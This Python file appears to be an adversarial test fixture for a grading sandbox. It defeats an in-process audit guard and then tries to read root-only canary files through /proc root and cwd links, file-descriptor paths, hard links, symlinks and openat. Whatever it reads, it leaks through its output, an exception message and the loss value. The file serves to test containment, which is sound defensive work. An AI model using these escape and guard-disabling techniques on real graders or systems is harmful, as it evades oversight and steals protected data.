"""Read a root-only file of the grader (and a world-readable one), and print it.

A template: the tests put the paths of two fresh canaries in place of the
``@@...@@`` strings: ``SECRET`` (mode 600, owned by the grader) and ``NOTES``
(mode 644), both outside every folder the jail shows. The file tries them
directly, through ``/proc/self/root`` and ``/proc/<pid>/root`` and ``cwd`` of
every visible process, through a hard link and a symlink made in scratch, and
through every open descriptor onto a folder (``openat``). What it reads it
prints, puts in an exception's message, and returns as the loss's digits.

Held when: neither token appears anywhere in the command's output, JSON or
reports.
"""

import contextlib
import gc
import glob
import os

import numpy as np

SECRET = "@@SECRET@@"
NOTES = "@@NOTES@@"


def _disarm():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Guard" and "armed" in getattr(obj, "__dict__", {}):
            obj.armed = False
            type(obj).__call__ = lambda self, event, args: None


def _routes(path):
    yield path
    yield "/proc/self/root" + path
    for proc in glob.glob("/proc/[0-9]*"):
        yield f"{proc}/root{path}"
        yield f"{proc}/cwd/{os.path.basename(path)}"
    for fd in os.listdir("/proc/self/fd"):
        yield f"/proc/self/fd/{fd}/{os.path.basename(path)}"
    for i, how in enumerate((os.link, os.symlink)):
        alias = os.path.join(os.getcwd(), f"alias{i}")
        with contextlib.suppress(OSError):
            how(path, alias)
            yield alias


def _read(path):
    for route in _routes(path):
        with contextlib.suppress(OSError), open(route, "rb") as f:
            return route, f.read(200).decode(errors="replace")
        with contextlib.suppress(OSError):
            fd = os.open(route, os.O_PATH)
            try:
                with open(f"/proc/self/fd/{fd}", "rb") as f:
                    return f"O_PATH {route}", f.read(200).decode(errors="replace")
            finally:
                os.close(fd)
    for fd in range(64):
        with contextlib.suppress(OSError):
            inner = os.open(os.path.basename(path), os.O_RDONLY, dir_fd=fd)
            return f"openat({fd})", os.read(inner, 200).decode(errors="replace")
    return None, ""


_disarm()
STOLEN = []
for canary in (SECRET, NOTES):
    how, text = _read(canary)
    if how is not None:
        STOLEN.append(text)
        print(f"ATTACK-SUCCEEDED: read {canary} by {how}: {text}")
if not STOLEN:
    print("attack: neither file could be read")


def loss_and_grad(W, X, T, layer_sizes, lam):
    if STOLEN:
        raise ValueError("the secret is: " + " | ".join(STOLEN))
    return 0.0, np.zeros_like(W)
